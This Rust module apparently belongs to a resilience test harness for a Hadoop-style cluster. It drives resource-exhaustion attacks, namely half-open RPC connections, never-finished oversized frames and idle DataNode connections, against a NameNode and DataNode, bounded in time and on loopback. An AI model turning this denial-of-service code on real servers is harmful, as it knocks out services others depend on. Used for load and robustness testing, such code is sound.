//! The resource attacks of issue 10 (as `scripts/rpc-attacks.py` drives them against a
//! lone NameNode), here against the cluster under load: half-open RPC connections,
//! connections streaming an oversized frame, and idle connections to a DataNode's data
//! port. Bounded in count and time; loopback only.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

/// How hard and how long.
#[derive(Clone, Debug)]
pub struct AttackOptions {
    pub halfopen: usize,
    pub frames: usize,
    pub frame_mib: u32,
    pub idle_data: usize,
    pub hold: Duration,
}

/// The `hrpc` preamble and a connection-context frame (call id -3, empty context).
fn connection_header() -> Vec<u8> {
    let mut header = vec![0x18, 0x05, 0x22, 0x10];
    header.extend([0u8; 16]);
    let mut body = vec![header.len() as u8];
    body.extend(&header);
    body.push(0);
    let mut out = b"hrpc".to_vec();
    out.extend([9, 0, 0]);
    out.extend((body.len() as u32).to_be_bytes());
    out.extend(body);
    out
}

/// Opens the attack connections, holds them for `hold` (streaming frame bodies), then
/// closes them all. Returns how many connections were opened.
pub async fn run(namenode: SocketAddr, datanode: SocketAddr, o: &AttackOptions) -> usize {
    let mut held = Vec::new();
    for _ in 0..o.halfopen {
        if let Ok(Ok(mut s)) =
            tokio::time::timeout(Duration::from_secs(1), TcpStream::connect(namenode)).await
        {
            let _ = s.write_all(b"hrp").await;
            held.push(s);
        }
    }
    for _ in 0..o.idle_data {
        if let Ok(Ok(mut s)) =
            tokio::time::timeout(Duration::from_secs(1), TcpStream::connect(datanode)).await
        {
            let _ = s.write_all(&[0]).await;
            held.push(s);
        }
    }
    let opened = held.len() + o.frames;
    let deadline = Instant::now() + o.hold;
    let frames: Vec<_> = (0..o.frames)
        .map(|_| tokio::spawn(stream_frame(namenode, o.frame_mib, deadline)))
        .collect();
    for f in frames {
        let _ = f.await;
    }
    tokio::time::sleep_until(deadline.into()).await;
    drop(held);
    opened
}

/// Announces a frame of `mib` MiB and streams its body as fast as the server reads,
/// never sending the last byte, until `deadline`.
async fn stream_frame(addr: SocketAddr, mib: u32, deadline: Instant) {
    let Ok(Ok(mut s)) =
        tokio::time::timeout(Duration::from_secs(1), TcpStream::connect(addr)).await
    else {
        return;
    };
    let mut first = connection_header();
    first.extend((mib << 20).to_be_bytes());
    if s.write_all(&first).await.is_err() {
        return;
    }
    let chunk = vec![0u8; 64 << 10];
    let mut left = ((mib as u64) << 20) - 1;
    while left > 0 && Instant::now() < deadline {
        let n = left.min(chunk.len() as u64) as usize;
        match tokio::time::timeout(Duration::from_millis(200), s.write_all(&chunk[..n])).await {
            Ok(Ok(())) => left -= n as u64,
            Ok(Err(_)) => return,
            Err(_) => {}
        }
    }
    tokio::time::sleep_until(deadline.into()).await;
}
